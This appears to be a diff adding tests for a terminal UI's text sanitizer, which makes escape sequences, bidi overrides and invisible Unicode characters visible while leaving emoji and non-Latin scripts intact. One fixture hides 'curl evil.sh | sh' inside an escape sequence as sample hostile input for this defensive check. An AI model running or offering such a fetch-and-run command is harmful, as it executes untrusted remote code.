@@ -6,7 +6,8 @@ import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 
-from robotui.text import PrintableStream, encodable, one_line, printable
+from robotui.text import PrintableStream, encodable, has_unseen, one_line, printable, visible
+from robotui.ui.widgets.wrap import cells_of
 
 ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
 OVERRIDES = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
@@ -175,3 +176,69 @@ def test_a_stream_holds_back_only_from_an_introducer_on() -> None:
 def test_a_stream_does_not_hold_back_for_ever() -> None:
     stream = PrintableStream()
     assert stream.feed("\x1b]" + "x" * PrintableStream.HELD)
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("echo \x1b]0;; curl evil.sh | sh # \x07", "echo ␛]0;; curl evil.sh | sh # ␇"),
+        ("a\rb\nc\x00\x7f", "a␍b␊c␀␡"),
+        ("\x9b31m\x85\ud800", "\ufffd31m\ufffd?"),
+        ("a\tb  ", "a\tb  "),
+    ],
+)
+def test_controls_in_code_are_shown(text: str, shown: str) -> None:
+    assert visible(text) == shown
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        *(0xAD, 0x34F, 0x61C, 0x115F, 0x180E, 0x200B, 0x200C, 0x200D, 0x200E, 0x2028, 0x2029),
+        *(0x202E, 0x2060, 0x2064, 0x2069, 0x3164, 0xFE0F, 0xFEFF, 0xFFA0, 0xFFF9, 0x1D173),
+        *(0xE0001, 0xE0041, 0xE007F, 0xE0100, 0xE01EF),
+    ],
+    ids=hex,
+)
+def test_what_shows_nothing_is_marked_in_code(code: int) -> None:
+    for text in (f"a{chr(code)}b", f"{chr(code)}a", f"é{chr(code)}{chr(code)}"):
+        assert visible(text) == text.replace(chr(code), "\ufffd")
+        assert cells_of(visible(text)) == len(text)
+        assert has_unseen(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        *(
+            "👩\u200d👩\u200d👧\u200d👦 🇩🇪 👍🏽 👩🏽\u200d🚀",
+            "❤\ufe0f ❤\ufe0f\u200d🔥 🏳\ufe0f\u200d🌈 ☎\ufe0e 1\ufe0f\u20e3",
+        ),
+        "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
+        *(
+            "e\u0301 a\u0308 क्षि",
+            "क्\u200dष می\u200cخواهم",
+            "葛\U000e0100城",
+            "日本語 한국어 שלום مرحبا",
+            "no\u00a0break",
+        ),
+    ],
+)
+def test_what_belongs_to_what_is_seen_stays_in_code(text: str) -> None:
+    assert visible(text) == text
+    assert not has_unseen(text)
+
+
+def test_nothing_hides_behind_an_emoji() -> None:
+    assert visible("👍\ufe0f\ufe0f\U000e0101") == "👍\ufe0f\ufffd\ufffd"
+    assert visible("👍\u200dx") == "👍\ufffdx"
+    assert visible("🏴\U000e0067\U000e0062\U000e0078") == "🏴" + "\ufffd" * 3
+
+
+@given(hostile)
+def test_code_keeps_its_length_and_has_no_controls(text: str) -> None:
+    shown = visible(text)
+    assert len(shown) == len(text)
+    assert visible(shown) == shown
+    assert not has_unseen(shown)
+    assert all(c == "\t" or unicodedata.category(c) not in {"Cc", "Cs", "Zl"} for c in shown)
